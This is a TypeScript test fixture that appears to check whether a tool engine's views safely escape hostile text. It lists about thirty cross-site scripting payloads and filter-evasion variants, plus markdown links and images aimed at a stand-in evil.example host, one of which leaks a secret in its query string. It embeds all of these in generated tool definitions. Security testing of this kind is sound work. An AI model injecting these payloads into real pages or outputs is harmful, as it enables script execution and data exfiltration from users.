/** Texts that a page which took them for anything but text would obey. */
export const hostileTexts: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "<a href='javascript:alert(1)'>x</a>",
  "<form action='https://evil.example'><button>x</button></form>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<object data='data:text/html,<script>alert(1)</script>'></object>",
  "<template><script>alert(1)</script></template>",
  "</pre><script>alert(1)</script>",
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  "{{constructor.constructor('alert(1)')()}}",
  `\${alert(1)}`,
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--<img src='--><img src=x onerror=alert(1)//'>",
];

/** Markdown that leads elsewhere, or would load something; beside it, what a page shows of it. */
export const hostileMarkdown: readonly (readonly [text: string, shown: string])[] = [
  ["![leak](https://evil.example/?q=secret)", "[image: leak, evil.example]"],
  ["![leak][1]\n\n[1]: https://evil.example/x.png", "[image: leak, evil.example]"],
  ["[press](javascript:alert(1))", "press"],
  ["[press](data:text/html,<script>alert(1)</script>)", "press"],
  ["[press](vbscript:alert(1))", "press"],
  ["<img src=https://evil.example/x.png>", ""],
  ["<script>alert(1)</script>", ""],
  ["[press](//evil.example)", "press"],
];

export const hostileTool = `import { defineTool } from "@toolwright/engine";
import { z } from "zod";
const texts: string[] = ${JSON.stringify(hostileTexts)};
export default defineTool({
  name: "hostile",
  title: texts[0]!,
  description: texts.join(" "),
  input: z.object({ [texts[1]!]: z.string().describe(texts[2]!).optional(), fail: z.boolean() }),
  output: z.object({
    texts: z.array(z.string()),
    rows: z.array(z.record(z.string(), z.string())),
    markdown: z.string().meta({ contentMediaType: "text/markdown" }),
  }),
  run({ fail }) {
    if (fail) throw new Error(texts.join(" "));
    return { texts, rows: texts.map((text) => ({ [text]: text })), markdown: ${JSON.stringify(hostileMarkdown.map(([text]) => text).join("\n\n"))} };
  },
});
`;

/** The same texts in each block of a view, which a block of text cannot show otherwise than as they are. */
export const hostileViewTool = `import { defineTool } from "@toolwright/engine";
import { z } from "zod";
const texts: string[] = ${JSON.stringify(hostileTexts)};
const png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
export default defineTool({
  name: "hostile_view",
  title: "</script><script>alert(1)</script>",
  description: "Answers with texts that try to be markup. For tests of views.",
  input: z.object({ fail: z.boolean().default(false) }),
  output: z.object({
    all: z.array(z.record(z.string(), z.string())),
    rows: z.array(z.object({ name: z.string(), points: z.int() })),
    one: z.object({ text: z.string() }),
    words: z.string(),
    dot: z.string(),
    file: z.string(),
  }),
  presentation: {
    view: {
      version: 1,
      blocks: [
        { block: "summary", title: texts[0]!, data: "/one", items: [{ name: "text", label: texts[1]!, unit: texts[2]! }] },
        { block: "table", title: texts[3]!, data: "/all" },
        { block: "chart", title: texts[4]!, data: "/rows", series: [{ name: "points", label: texts[5]!, unit: texts[6]! }] },
        { block: "radar", title: texts[7]!, data: "/rows" },
        { block: "ranking", title: texts[8]!, data: "/rows" },
        { block: "markdown", title: "</script><!--", data: "/words" },
        { block: "image", data: "/dot", alt: texts[9]! },
        { block: "file", data: "/file" },
        { block: "custom", data: "/one", renderer: texts[10]! },
      ],
    },
  },
  toModel: ({ dot }) => [{ type: "text", text: dot }, { type: "image", mimeType: "image/png", data: png }],
  async run({ fail }, { artifacts }) {
    if (fail) throw new Error(texts.join(" "));
    const file = await artifacts.save({ name: texts[1]!, mediaType: "text/plain", content: "x" });
    return {
      all: texts.map((text) => ({ [text]: text })),
      rows: texts.map((name, index) => ({ name, points: index })),
      one: { text: texts[0]! },
      words: ${JSON.stringify(hostileMarkdown.map(([text]) => text).join("\n\n"))},
      dot: file.id,
      file: file.id,
    };
  },
});
`;
